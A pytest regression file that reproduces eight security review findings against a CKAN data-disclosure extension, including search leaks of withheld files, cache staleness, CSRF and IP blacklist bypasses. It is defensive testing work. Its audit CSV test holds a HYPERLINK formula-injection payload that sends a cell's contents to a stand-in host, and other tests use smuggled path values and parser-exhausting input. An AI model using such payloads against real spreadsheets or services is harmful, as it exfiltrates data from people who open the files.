"""The reproductions of issue 10's CKAN findings (1–8), each as the API call
or page request the review made, answering nothing withheld."""

import csv
import datetime as dt
import io
import json
import re

import pytest
from acting import apply_for, as_user, signed_in
from ckan import model
from ckan.lib import search
from ckan.logic import NotAuthorized, NotFound, ValidationError
from ckan.tests import factories
from ckan.tests.helpers import call_action

# name -> (fields, anonymous may see the dataset, anonymous may see its files)
from test_disclosure import CASES, FUTURE

pytestmark = [
    pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index"),
    pytest.mark.ckan_config("ckanext.sdm.allow_classified", "true"),
]

ANONYMOUS = {"user": "", "ignore_auth": False}
WITHHELD = [name for name, (_, _, files) in CASES.items() if not files]


def url(name):
    return f"https://files.example.cn/{name}-token.csv"


def file_name(name):
    """One word that nothing else in the catalogue contains."""
    return name.replace("-", "") + "filename"


def file_description(name):
    return name.replace("-", "") + "filedescription"


@pytest.fixture
def catalogue(create_dataset):
    return {
        name: create_dataset(
            name=name,
            title_translated={"zh-Hans": f"数据集 {name}", "en": f"Dataset {name}"},
            resources=[{"url": url(name), "name": file_name(name), "description": file_description(name)}],
            **fields,
        )
        for name, (fields, _, _) in CASES.items()
    }


def withheld_in(text) -> list:
    """The withheld files, and the classified dataset, named in `text`."""
    found = [name for name in WITHHELD if url(name) in text or file_name(name) in text]
    return found + (["classified-data"] if "classified-data" in text else [])


def as_text(answer) -> str:
    return json.dumps(answer, ensure_ascii=False, default=str)


def _user(name=None):
    return factories.User(**({"name": name} if name else {}))


# -- finding 1: resource_search ------------------------------------------------
@pytest.mark.usefixtures("catalogue")
def test_resource_search_lists_only_disclosed_files():
    found = call_action("resource_search", context=dict(ANONYMOUS), query="url:")
    assert withheld_in(as_text(found)) == []
    assert found["count"] == len(found["results"]) == 1  # the count tells nothing either
    # the name of a withheld file finds nothing
    assert call_action("resource_search", context=dict(ANONYMOUS), query="name:conditionaldata")["count"] == 0
    # paging applies to what may be seen
    paged = call_action("resource_search", context=dict(ANONYMOUS), query="url:", offset=0, limit=1)
    assert [r["url"] for r in paged["results"]] == [url("open-data")]


@pytest.mark.usefixtures("catalogue")
@pytest.mark.parametrize(
    "action, data", [("resource_search", {"query": "url:"}), ("package_search", {"q": "*:*", "fl": "*"})]
)
def test_core_searches_called_directly_refuse_outsiders(action, data, sysadmin):
    """Core calls its own functions directly at times, past every chained
    action (finding 4); the chained auth refuses such a call for outsiders
    instead of answering unredacted — also in resource_search's
    `search_query` mode, whose answer is Resource objects."""
    from ckan.logic.action import get as core

    for context in (dict(ANONYMOUS), as_user(_user()), dict(ANONYMOUS, search_query=True)):
        with pytest.raises(NotAuthorized):
            getattr(core, action)(dict(context, model=model, session=model.Session), dict(data))
    # sysadmins may; through the registry outsiders get the redacted answer
    assert getattr(core, action)({"user": sysadmin["name"], "model": model, "session": model.Session}, dict(data))
    assert withheld_in(as_text(call_action(action, context=dict(ANONYMOUS), **data))) == []
    internal = call_action("resource_search", context=dict(ANONYMOUS, search_query=True), query="url:")
    assert [r.url for r in internal["results"]] == [url("open-data")]


# -- finding 2: facets and queries on file fields ----------------------------------
@pytest.mark.usefixtures("catalogue")
@pytest.mark.parametrize("facet", ["res_url", "res_name", "res_description", "urls", "text", "secrecy_level"])
def test_package_search_refuses_facets_on_file_fields(facet):
    with pytest.raises(ValidationError):
        call_action("package_search", context=dict(ANONYMOUS), **{"facet.field": json.dumps([facet])})


@pytest.mark.usefixtures("catalogue")
@pytest.mark.parametrize(
    "param, value",
    [
        ("q", "res_url:*conditional*"),
        ("fq", "res_name:closeddatafilename"),
        ("q", "urls:*token*"),
        ("sort", "res_url asc"),
        ("q", "extras_secrecy_level:confidential"),
    ],
)
def test_package_search_refuses_queries_on_file_fields(param, value):
    with pytest.raises(ValidationError):
        call_action("package_search", context=dict(ANONYMOUS), **{param: value})


@pytest.mark.usefixtures("catalogue")
@pytest.mark.parametrize("name", WITHHELD)
def test_withheld_file_names_are_not_searchable(name):
    # the default field (text) receives res_name and res_description: not of withheld files
    for q in (file_name(name), file_description(name)):
        assert call_action("package_search", context=dict(ANONYMOUS), q=q)["count"] == 0, q
    # the members' own search neither: the index holds no withheld file field
    assert call_action("package_search", q=file_name(name))["count"] == 0


@pytest.mark.usefixtures("catalogue")
def test_allowed_facets_still_work():
    found = call_action(
        "package_search",
        context=dict(ANONYMOUS),
        **{"facet.field": json.dumps(["organization", "res_format", "open_attribute"])},
    )
    assert set(found["facets"]) == {"organization", "res_format", "open_attribute"}


# -- finding 3: fl, aliases and transformers ------------------------------------------
@pytest.mark.usefixtures("catalogue")
@pytest.mark.parametrize(
    "fl",
    [
        "id,name,res_url,extras_secrecy,extras_open_attribute",
        "name,res_url",
        "name res_url data_dict validated_data_dict",
        "*",
    ],
)
def test_fl_answers_are_redacted_by_the_stored_policy(fl):
    found = call_action("package_search", context=dict(ANONYMOUS), q="*:*", rows=100, fl=fl)
    assert withheld_in(as_text(found)) == []
    assert found["count"] == 4
    if "id" not in fl.split(",") and fl != "*":
        assert all("id" not in r for r in found["results"])  # the id added for the lookup is not handed out


@pytest.mark.usefixtures("catalogue")
@pytest.mark.parametrize(
    "fl",
    [
        "name,res_url,open_attribute:[value v=unconditional]",
        "name,res_url,secrecy:[value v=unclassified]",
        "name,res_url,id:[value v=00000000-0000-0000-0000-000000000000]",
        "name,res_url,owner_org:[value v=x]",
        "name,u:res_url",
        "name,sum(1,1)",
    ],
)
def test_fl_aliases_and_transformers_are_refused(fl):
    with pytest.raises(ValidationError):
        call_action("package_search", context=dict(ANONYMOUS), q="*:*", fl=fl)


# -- finding 4: current_package_list_with_resources -------------------------------------
@pytest.mark.usefixtures("catalogue")
def test_current_package_list_with_resources_is_redacted():
    listed = call_action("current_package_list_with_resources", context=dict(ANONYMOUS), limit=100)
    assert withheld_in(as_text(listed)) == []
    assert {p["name"] for p in listed} == {n for n, (_, visible, _) in CASES.items() if visible}


# -- finding 5: activity_show without data ---------------------------------------------
@pytest.mark.usefixtures("catalogue")
@pytest.mark.parametrize("include_data", [False, "", "false", True])
@pytest.mark.parametrize("name", WITHHELD)
def test_activity_show_gives_no_withheld_file(name, include_data, sysadmin):
    (activity,) = call_action("package_activity_list", context={"user": sysadmin["name"]}, id=name)
    try:
        shown = call_action("activity_show", context=dict(ANONYMOUS), id=activity["id"], include_data=include_data)
    except NotAuthorized:
        return
    assert withheld_in(as_text(shown)) == []


# -- finding 6: following ------------------------------------------------------------
@pytest.mark.usefixtures("catalogue")
def test_followee_lists_give_no_withheld_file():
    user = _user()
    for name in CASES:
        try:
            call_action("follow_dataset", context=as_user(user), id=name)
        except NotAuthorized:
            assert name == "classified-data"  # one may not follow what one may not see
    for action in ("dataset_followee_list", "followee_list"):
        listed = call_action(action, context=as_user(user), id=user["name"])
        assert withheld_in(as_text(listed)) == [], action
        assert len(listed) == 4, action


# -- finding 7: declassification, history, lists, cache ----------------------------------
def test_declassifying_clears_the_classification_detail(catalogue, sysadmin):
    classified = catalogue["classified-data"]
    fields = dict(
        classified, secrecy="unclassified", sharing_attribute="unconditional", open_attribute="unconditional"
    )  # what the form sends: the hidden inputs too
    saved = call_action("package_update", context={"user": sysadmin["name"]}, **fields)
    for name in ("secrecy_level", "secrecy_period_years", "declassify_date", "declassify_condition"):
        assert not saved.get(name), name
    model.Session.expire_all()  # read what the database now holds
    assert not model.Package.get(saved["id"]).extras.get("secrecy_level")
    found = call_action("package_search", context=dict(ANONYMOUS), q="name:classified-data", fl="*")
    assert "confidential" not in as_text(found)


@pytest.mark.usefixtures("catalogue")
def test_leftover_classification_detail_is_never_shown():
    # written past the form and the rules, e.g. by an old version
    package = model.Package.get("open-data")
    package.extras["declassify_condition"] = "解密条件-leftover"
    model.repo.commit()
    search.rebuild(package.id)
    for answer in (
        call_action("package_search", context=dict(ANONYMOUS), q="*:*", fl="*"),
        call_action("package_search", context=dict(ANONYMOUS), q="*:*"),
        call_action("current_package_list_with_resources", context=dict(ANONYMOUS)),
    ):
        assert "解密条件-leftover" not in as_text(answer)


def test_history_forgets_files_withheld_later(catalogue, sysadmin):
    opened = catalogue["open-data"]
    call_action("package_patch", context={"user": sysadmin["name"]}, id=opened["id"], **CASES["conditional-data"][0])
    activities = call_action("package_activity_list", context=dict(ANONYMOUS), id="open-data")
    assert len(activities) == 2
    for activity in activities:
        assert url("open-data") not in as_text(activity)
        try:
            shown = call_action("activity_show", context=dict(ANONYMOUS), id=activity["id"], include_data=True)
        except NotAuthorized:
            continue
        assert url("open-data") not in as_text(shown)


@pytest.mark.usefixtures("catalogue")
def test_package_and_member_lists_leave_out_classified(responsible_unit):
    classified_id = call_action("package_show", id="classified-data")["id"]
    names = call_action("package_list", context=dict(ANONYMOUS))
    assert "classified-data" not in names and "open-data" in names
    members = call_action("member_list", context=dict(ANONYMOUS), id=responsible_unit["id"], object_type="package")
    assert classified_id not in as_text(members) and len(members) == 4
    assert "classified-data" not in as_text(call_action("package_autocomplete", context=dict(ANONYMOUS), q="data"))


@pytest.mark.usefixtures("catalogue")
def test_a_users_dataset_count_leaves_out_classified(sysadmin):
    """user_show and user_list count the datasets a user created in the
    database (number_created_packages): for an outsider the count must not
    tell of the classified one either."""
    visible = sum(1 for _, shown, _ in CASES.values() if shown)
    for context in (dict(ANONYMOUS), as_user(_user())):
        shown = call_action("user_show", context=dict(context), id=sysadmin["name"])
        assert shown["number_created_packages"] == visible
        listed = {u["name"]: u for u in call_action("user_list", context=dict(context))}
        assert listed[sysadmin["name"]]["number_created_packages"] == visible
    # the creator's own count is core's, all of them
    assert call_action("user_show", context=as_user(sysadmin), id=sysadmin["name"])["number_created_packages"] == len(
        CASES
    )


@pytest.mark.usefixtures("catalogue")
def test_follower_answers_about_classified_are_those_of_a_missing_dataset(sysadmin):
    """dataset_follower_count and am_following_dataset answered for any
    stored id: a count (or yes/no) for the classified dataset's name, an
    error for a name nobody took, so a guessed name could be confirmed."""
    call_action("follow_dataset", context=as_user(sysadmin), id="classified-data")
    outsider = _user()
    calls = [("dataset_follower_count", dict(ANONYMOUS)), ("dataset_follower_count", as_user(outsider))]
    for action, context in calls + [("am_following_dataset", as_user(outsider))]:
        with pytest.raises(ValidationError) as hidden:
            call_action(action, context=dict(context), id="classified-data")
        with pytest.raises(ValidationError) as missing:
            call_action(action, context=dict(context), id="no-such-data")
        assert hidden.value.error_dict == missing.value.error_dict, action
    assert call_action("dataset_follower_count", context=dict(ANONYMOUS), id="open-data") == 0
    assert call_action("dataset_follower_count", context=as_user(sysadmin), id="classified-data") == 1


_APPROVAL = {"decision": "approve", "reason": "符合条件", "days": 7}


def test_rdf_page_cache_follows_the_grant(app, catalogue, sysadmin):
    applicant = _user()
    token = signed_in(applicant)
    request = apply_for(applicant, "conditional-data")
    call_action("sdm_access_request_decide", context={"user": sysadmin["name"]}, id=request["id"], **_APPROVAL)
    # ckanext-dcat's own profiles write what package_show gives the viewer
    page = f"/dataset/{catalogue['conditional-data']['id']}.ttl?profiles=euro_dcat_ap_2"
    assert url("conditional-data") in app.get(page, headers=token).body  # cached now
    assert url("conditional-data") in app.get(page, headers=token).body
    call_action("sdm_access_request_revoke", context={"user": sysadmin["name"]}, id=request["id"], reason="违约")
    assert url("conditional-data") not in app.get(page, headers=token).body
    assert url("conditional-data") not in app.get("/catalog.ttl?profiles=euro_dcat_ap_2", headers=token).body
    # a grant that runs out (no one revokes it) stops the cached page too
    again = apply_for(applicant, "conditional-data")
    call_action("sdm_access_request_decide", context={"user": sysadmin["name"]}, id=again["id"], **_APPROVAL)
    assert url("conditional-data") in app.get(page, headers=token).body  # cached again
    from ckanext.sdm.model import AccessRequest, utcnow

    model.Session.get(AccessRequest, again["id"]).expires = utcnow() - dt.timedelta(minutes=1)
    model.repo.commit()
    assert url("conditional-data") not in app.get(page, headers=token).body


def test_rdf_page_cache_follows_membership(app, catalogue, responsible_unit, sysadmin):
    member = _user()
    call_action("organization_member_create", id=responsible_unit["id"], username=member["name"], role="member")
    token = signed_in(member)
    page = f"/dataset/{catalogue['closed-data']['id']}.ttl?profiles=euro_dcat_ap_2"
    catalogue_page = "/catalog.ttl?profiles=euro_dcat_ap_2"
    assert url("closed-data") in app.get(page, headers=token).body  # members see the files; cached now
    assert url("closed-data") in app.get(catalogue_page, headers=token).body
    call_action(
        "organization_member_delete",
        context={"user": sysadmin["name"]},
        id=responsible_unit["id"],
        username=member["name"],
    )
    assert url("closed-data") not in app.get(page, headers=token).body
    assert url("closed-data") not in app.get(catalogue_page, headers=token).body


def test_an_ended_membership_ends_the_search_within_the_same_request(app, catalogue, responsible_unit, sysadmin):
    """A request remembers a user's permission labels (access.PermissionLabels);
    a membership that ends during it must end what the user finds at once."""
    member = _user()
    call_action("organization_member_create", id=responsible_unit["id"], username=member["name"], role="member")
    with app.flask_app.test_request_context():

        def found():
            return call_action("package_search", context=as_user(member), q="name:classified-data")["count"]

        assert found() == 1 and found() == 1  # the labels are remembered now
        call_action(
            "organization_member_delete",
            context={"user": sysadmin["name"]},
            id=responsible_unit["id"],
            username=member["name"],
        )
        assert found() == 0


# -- finding 8: audit, CSRF, blacklist, verify, lift-embargoes, revocation ---------------
def test_audit_csv_cells_are_never_formulas(app, catalogue, sysadmin):
    applicant = _user()
    call_action(
        "sdm_access_request_create",
        context=as_user(applicant),
        id="conditional-data",
        purpose='=HYPERLINK("https://evil.example/?"&A1,"click")',
        intended_use="+1",
        applicant_unit="@unit",
    )
    admin = signed_in(sysadmin)
    rows = list(csv.DictReader(io.StringIO(app.get("/ckan-admin/sdm/audit.csv", headers=admin).body)))
    details = [r["detail"] for r in rows if r["action"] == "access_request"]
    assert details == ['\'=HYPERLINK("https://evil.example/?"&A1,"click")']
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row


def test_anonymous_requests_write_no_audit_rows(app, catalogue):
    open_resource = catalogue["open-data"]["resources"][0]["id"]
    app.get(f"/dataset/open-data/resource/{open_resource}/download", follow_redirects=False)
    app.get("/dataset/open-data/resource/made-up-id-=cmd/download", follow_redirects=False)
    app.get("/dataset/x=HYPERLINK()/resource/y/download", follow_redirects=False)
    assert call_action("sdm_audit_list") == []
    # a signed-in user's download of a real file is audited, with ids from the database
    user = _user()
    token = signed_in(user)
    app.get(f"/dataset/open-data/resource/{open_resource}/download", headers=token, follow_redirects=False)
    app.get("/dataset/open-data/resource/made-up-id/download", headers=token, follow_redirects=False)
    rows = call_action("sdm_audit_list")
    assert [(r["user_name"], r["resource_id"], r["package_id"]) for r in rows] == [
        (user["name"], open_resource, catalogue["open-data"]["id"])
    ]


def _csrf_token(client, path) -> str:
    return re.search(r'<meta name="_csrf_token" content="([^"]+)"', client.get(path).get_data(as_text=True)).group(1)


def test_extension_forms_need_a_csrf_token(app, catalogue):
    """A signed-in browser (session cookie) posting a form of the
    extension without CKAN's CSRF token, as a page elsewhere would make it."""
    password = "correct-horse-battery"
    user = factories.User(password=password)
    browser = app.test_client()  # one cookie jar, as a browser has
    signed_in = browser.post(
        "/user/login",
        data={"login": user["name"], "password": password, "_csrf_token": _csrf_token(browser, "/user/login")},
        follow_redirects=False,
    )
    assert signed_in.status_code in (302, 303)
    form = {"purpose": "研究", "intended_use": "论文", "applicant_unit": "某大学"}
    forged = browser.post("/dataset/conditional-data/access-request", data=form, follow_redirects=False)
    assert forged.status_code == 400
    assert call_action("sdm_access_request_list", context=as_user(user)) == []
    token = _csrf_token(browser, "/dataset/conditional-data/access-request")
    sent = browser.post(
        "/dataset/conditional-data/access-request", data=dict(form, _csrf_token=token), follow_redirects=False
    )
    assert sent.status_code in (302, 303)
    assert len(call_action("sdm_access_request_list", context=as_user(user))) == 1


def test_ipv4_mapped_ipv6_addresses_are_blacklisted(app, catalogue, sysadmin):
    call_action("sdm_blacklist_add", context={"user": sysadmin["name"]}, network="203.0.113.0/24", reason="攻击来源")
    open_resource = catalogue["open-data"]["resources"][0]["id"]
    path = f"/dataset/open-data/resource/{open_resource}/download"
    user = _user()
    token = signed_in(user)
    for address in ("203.0.113.9", "::ffff:203.0.113.9", "::ffff:cb00:7109"):
        assert (
            app.get(path, headers=token, environ_overrides={"REMOTE_ADDR": address}, follow_redirects=False).status_code
            == 403
        ), address
    assert (
        app.get(
            path, headers=token, environ_overrides={"REMOTE_ADDR": "::ffff:198.51.100.1"}, follow_redirects=False
        ).status_code
        == 302
    )
    # a mapped network on the list holds for the plain IPv4 address too
    call_action("sdm_blacklist_add", context={"user": sysadmin["name"]}, network="::ffff:192.0.2.0/120", reason="x")
    assert (
        app.get(path, headers=token, environ_overrides={"REMOTE_ADDR": "192.0.2.7"}, follow_redirects=False).status_code
        == 403
    )


@pytest.mark.parametrize(
    "data",
    [
        {"certificate": "[]"},
        {"certificate": "1"},
        {"certificate": "[" * 100000 + "]" * 100000},
        {"certificate": ["a"]},
        {"certificate": {"number": ["x"]}},
        {"certificate": {"number": {"a": 1}}},
        {"number": ["x"]},
        {"number": {"a": 1}},
        {"certificate": {"number": "N1", "dataset_id": ["x"]}},
    ],
)
def test_submission_verify_answers_crafted_input_with_a_validation_error(with_plugins, clean_db, data):
    with pytest.raises((ValidationError, NotFound)):
        call_action("sdm_submission_verify", context=dict(ANONYMOUS), **data)


def test_submission_verify_page_answers_crafted_input(app, with_plugins, clean_db):
    page = app.get("/submission/verify", query_string={"certificate": "[" * 50000})
    assert page.status_code == 200 and "alert-danger" in page.body


def test_lift_embargoes_goes_on_past_a_failing_dataset(cli, create_dataset):
    from ckanext.sdm.cli import sdm

    past = (dt.date.today() - dt.timedelta(days=1)).isoformat()
    names = ["due-a", "due-b", "due-c"]
    for name in names:
        create_dataset(
            name=name,
            title_translated={"zh-Hans": name},
            disclosure="deferred",
            deferral_reason="paper",
            embargo_until=FUTURE,
            resources=[{"url": url(name)}],
        )
        model.Package.get(name).extras["embargo_until"] = past
    # a stored value the schema refuses: saving this one fails
    model.Package.get("due-b").extras["open_attribute"] = "no-such-code"
    model.repo.commit()
    result = cli.invoke(sdm, ["lift-embargoes"])
    assert result.exit_code != 0
    assert "lifted due-a" in result.output and "lifted due-c" in result.output
    assert "not lifted due-b" in result.output
    assert [call_action("package_show", id=n)["disclosure"] for n in names] == ["public", "deferred", "public"]


def test_a_revoked_grant_withholds_the_files_at_once(catalogue, sysadmin, responsible_unit):
    applicant, stranger = _user(), _user()
    editor = _user()
    call_action("organization_member_create", id=responsible_unit["id"], username=editor["name"], role="editor")
    request = apply_for(applicant, "conditional-data")
    call_action(
        "sdm_access_request_decide",
        context=as_user(editor),
        id=request["id"],
        decision="approve",
        reason="符合条件",
        days=30,
    )
    assert call_action("package_show", context=as_user(applicant), id="conditional-data")["resources"]
    with pytest.raises(NotAuthorized):  # only the unit's editors and sysadmins
        call_action("sdm_access_request_revoke", context=as_user(stranger), id=request["id"], reason="x")
    with pytest.raises(ValidationError):  # a reason is required
        call_action("sdm_access_request_revoke", context=as_user(editor), id=request["id"], reason="")
    revoked = call_action("sdm_access_request_revoke", context=as_user(editor), id=request["id"], reason="违反协议")
    assert revoked["status"] == "revoked" and not revoked["active"]
    assert call_action("package_show", context=as_user(applicant), id="conditional-data")["resources"] == []
    with pytest.raises(NotAuthorized):
        call_action("resource_show", context=as_user(applicant), id=catalogue["conditional-data"]["resources"][0]["id"])
    assert call_action("sdm_audit_list")[-1]["outcome"] == "revoked"
